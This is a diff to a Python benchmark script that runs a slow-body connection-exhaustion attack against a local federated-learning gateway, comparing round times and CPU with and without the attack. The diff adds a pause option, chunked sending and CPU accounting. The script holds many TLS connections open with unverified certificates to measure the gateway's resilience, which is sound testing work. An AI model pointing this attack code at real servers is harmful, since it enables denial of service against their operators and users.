@@ -6,7 +6,7 @@ The attack is the one an outside review used to stop runs: from each address, as
 connections as the gateway lets one address open (16), each a TLS connection announcing the
 largest push-object a SuperNode sends and sending all of its body but the last byte at once,
 then waiting; when a connection is answered or closed, another takes its place after
-:data:`PAUSE_S`. Addresses are loopback ones (127.0.0.2 ...), distinct source addresses on Linux.
+``--pause`` seconds (:data:`PAUSE_S`). Addresses are loopback ones (127.0.0.2 ...), distinct source addresses on Linux.
 
 Runs the same experiment twice on a local deployment (``deploy.local``: TLS SuperLink, the
 gateway, authenticated SuperNodes with their roster), without and with the attack, which starts
@@ -26,6 +26,8 @@ from __future__ import annotations
 import argparse
 import json
 import re
+import resource
+import select
 import signal
 import socket
 import ssl
@@ -44,6 +46,8 @@ sys.path.insert(0, str(HERE.parent))
 from deploy.gateway import FLEET_ENDPOINTS, MAX_CLIENT_CONNECTIONS, READY  # noqa: E402
 
 PUSH_OBJECT = b"/v1/fleet/push-object"
+CHUNK = 256 * 1024
+_ZEROS = bytes(CHUNK)
 #: seconds an attacking connection's place stays empty after it was answered or closed
 PAUSE_S = 0.2
 RESULT = HERE / "results" / "gateway_attack.json"
@@ -67,8 +71,10 @@ def gateway_address(out: Path, guard_s: float = 600.0) -> tuple[str, int]:
 
 
 def hold_one_body(target: tuple[str, int], source: str) -> str:
-    """One attacking connection: announce the largest push-object, send all but its last byte,
-    wait for the answer; how it ended (an HTTP status, ``refused`` before TLS, ``closed``)."""
+    """One attacking connection: announce the largest push-object, send all but its last byte
+    (in chunks, stopping early once the gateway has answered or closed: the attacker spares its
+    own CPU, which here is the federation's machine's), wait for the answer; how it ended (an HTTP
+    status, ``refused`` before TLS, ``closed``)."""
     limit = FLEET_ENDPOINTS[PUSH_OBJECT].request_limit
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # an attacker checks nothing
@@ -81,7 +87,11 @@ def hold_one_body(target: tuple[str, int], source: str) -> str:
         head = (b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/protobuf\r\nContent-Length: %d\r\n\r\n"
                 % (PUSH_OBJECT, target[0].encode(), limit))
         try:
-            sock.sendall(head + b"\0" * (limit - 1))
+            sock.sendall(head)
+            for sent in range(0, limit - 1, CHUNK):
+                if select.select([sock], [], [], 0)[0]:  # answered (or closed) before the body is whole
+                    break
+                sock.sendall(_ZEROS[:min(CHUNK, limit - 1 - sent)])
             status = sock.recv(64)
         except (OSError, ssl.SSLError):
             return "closed"
@@ -93,8 +103,8 @@ class Attacker:
     """``addresses`` x :data:`~deploy.gateway.MAX_CLIENT_CONNECTIONS` threads, each keeping one
     attacking connection (:func:`hold_one_body`) open until :meth:`stop`."""
 
-    def __init__(self, target: tuple[str, int], addresses: int) -> None:
-        self.target, self.stopped, self.ended = target, threading.Event(), Counter()
+    def __init__(self, target: tuple[str, int], addresses: int, pause_s: float = PAUSE_S) -> None:
+        self.target, self.pause_s, self.stopped, self.ended = target, pause_s, threading.Event(), Counter()
         self.lock = threading.Lock()
         self.threads = [threading.Thread(target=self._keep, args=(attacker_address(a),), daemon=True)
                         for a in range(addresses) for _ in range(MAX_CLIENT_CONNECTIONS)]
@@ -104,7 +114,7 @@ class Attacker:
             how = hold_one_body(self.target, source)
             with self.lock:
                 self.ended[how] += 1
-            self.stopped.wait(PAUSE_S)
+            self.stopped.wait(self.pause_s)
 
     def start(self) -> "Attacker":
         for thread in self.threads:
@@ -121,13 +131,13 @@ class Attack:
     from when its gateway serves until the context ends; :attr:`counts` then holds what its
     connections got."""
 
-    def __init__(self, out: Path, addresses: int = 8) -> None:
-        self.out, self.addresses, self.counts = Path(out), addresses, {}
+    def __init__(self, out: Path, addresses: int = 8, pause_s: float = PAUSE_S) -> None:
+        self.out, self.addresses, self.pause_s, self.counts = Path(out), addresses, pause_s, {}
 
     def __enter__(self) -> "Attack":
         self.out.mkdir(parents=True, exist_ok=True)
         self.proc = subprocess.Popen([sys.executable, __file__, "--attack", str(self.out),
-                                      "--addresses", str(self.addresses)])
+                                      "--addresses", str(self.addresses), "--pause", str(self.pause_s)])
         return self
 
     def __exit__(self, *exc) -> None:
@@ -137,12 +147,12 @@ class Attack:
         self.counts = json.loads(path.read_text()) if path.exists() else {}
 
 
-def _attack_until_stopped(out: Path, addresses: int) -> None:
+def _attack_until_stopped(out: Path, addresses: int, pause_s: float) -> None:
     stop = threading.Event()
     signal.signal(signal.SIGTERM, lambda *_: stop.set())
-    attacker = Attacker(gateway_address(out), addresses).start()
+    attacker = Attacker(gateway_address(out), addresses, pause_s).start()
     stop.wait()
-    (out / "attack.json").write_text(json.dumps(attacker.stop()))
+    (out / "attack.json").write_text(json.dumps({"ended": attacker.stop(), "cpu_s": time.process_time()}))
 
 
 def round_seconds(result: dict) -> list[float]:
@@ -150,23 +160,32 @@ def round_seconds(result: dict) -> list[float]:
     return [r["seconds"] for r in result["timing"]["per_round"] if r["action"] != "hello"]
 
 
-def run(strategy: str, nodes: int, sets: list[str], addresses: int, attacked: bool, out: Path) -> dict:
+def run(strategy: str, nodes: int, sets: list[str], addresses: int, pause_s: float, attacked: bool,
+        out: Path) -> dict:
     """One deployed run (with the attack if ``attacked``): its figures."""
     from deploy.__main__ import RUN_TIMING, run_local
 
-    started = time.monotonic()
+    started, cpu = time.monotonic(), _children_cpu_s()
     if attacked:
-        with Attack(out, addresses) as attack:
+        with Attack(out, addresses, pause_s) as attack:
             path = run_local(nodes, strategy, "sbm", "auto", sets, out)
         counts = attack.counts
     else:
         path = run_local(nodes, strategy, "sbm", "auto", sets, out)
-        counts = {}
+        counts = {"ended": {}, "cpu_s": 0.0}
     result = json.loads(path.read_text())
     seconds = round_seconds(result)
     return {"attacked": attacked, "rounds": len(seconds), "median_round_s": statistics.median(seconds),
             "slowest_round_s": max(seconds), "flwr_run_s": json.loads((out / RUN_TIMING).read_text())["flwr_run_s"],
-            "wall_s": time.monotonic() - started, "attack": counts, "rejected": result["communication"]["dropped"]}
+            "wall_s": time.monotonic() - started, "cpu_s": _children_cpu_s() - cpu - counts["cpu_s"],
+            "attacker_cpu_s": counts["cpu_s"], "attack": counts["ended"],
+            "dropped": result["communication"]["dropped"]}
+
+
+def _children_cpu_s() -> float:
+    """CPU seconds of this process's ended children (the federation's processes, the attacker)."""
+    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
+    return usage.ru_utime + usage.ru_stime
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -174,30 +193,33 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--strategy", default="fedkmeans")
     parser.add_argument("--nodes", type=int, default=3)
     parser.add_argument("--addresses", type=int, default=8)
+    parser.add_argument("--pause", type=float, default=PAUSE_S, help="seconds before a closed attacking connection "
+                                                                      "is opened again")
     parser.add_argument("--set", action="append", default=["sbm.nodes=300", "fedkmeans.secure=true",
                                                            "num-rounds=5", "reference=false"])
     parser.add_argument("--attack", type=Path, help=argparse.SUPPRESS)
     args = parser.parse_args(argv)
     if args.attack:
-        _attack_until_stopped(args.attack, args.addresses)
+        _attack_until_stopped(args.attack, args.addresses, args.pause)
         return 0
     with tempfile.TemporaryDirectory(prefix="gateway-attack-") as tmp:
-        runs = [run(args.strategy, args.nodes, args.set, args.addresses, attacked, Path(tmp) / str(attacked))
-                for attacked in (False, True)]
+        runs = [run(args.strategy, args.nodes, args.set, args.addresses, args.pause, attacked,
+                    Path(tmp) / str(attacked)) for attacked in (False, True)]
     plain, attacked = runs
-    ratios = {k: attacked[k] / plain[k] for k in ("median_round_s", "slowest_round_s", "flwr_run_s")}
+    ratios = {k: attacked[k] / plain[k] for k in ("median_round_s", "slowest_round_s", "flwr_run_s", "cpu_s")}
     print(f"{args.strategy}, {args.nodes} SuperNodes, {args.addresses} attacking addresses x {MAX_CLIENT_CONNECTIONS} "
           "connections")
-    print(f"{'':>10} {'rounds':>6} {'median round s':>14} {'slowest s':>9} {'flwr run s':>10}")
+    print(f"{'':>10} {'rounds':>6} {'median round s':>14} {'slowest s':>9} {'flwr run s':>10} {'CPU s':>7}")
     for name, r in (("plain", plain), ("attacked", attacked)):
         print(f"{name:>10} {r['rounds']:>6} {r['median_round_s']:>14.3f} {r['slowest_round_s']:>9.3f} "
-              f"{r['flwr_run_s']:>10.1f}")
+              f"{r['flwr_run_s']:>10.1f} {r['cpu_s']:>7.1f}")
     print(f"{'ratio':>10} {'':>6} {ratios['median_round_s']:>14.2f} {ratios['slowest_round_s']:>9.2f} "
-          f"{ratios['flwr_run_s']:>10.2f}")
-    print(f"attacking connections ended: {attacked['attack']}")
+          f"{ratios['flwr_run_s']:>10.2f} {ratios['cpu_s']:>7.2f}")
+    print(f"attacking connections ended: {attacked['attack']}; the attacker's own CPU: "
+          f"{attacked['attacker_cpu_s']:.1f} s (not in the CPU column)")
     RESULT.parent.mkdir(parents=True, exist_ok=True)
     RESULT.write_text(json.dumps({"strategy": args.strategy, "nodes": args.nodes, "addresses": args.addresses,
-                                  "sets": args.set, "plain": plain, "attacked": attacked, "ratios": ratios},
+                                  "pause_s": args.pause, "sets": args.set, "plain": plain, "attacked": attacked, "ratios": ratios},
                                  indent=1) + "\n")
     print(f"wrote {RESULT}")
     return 0
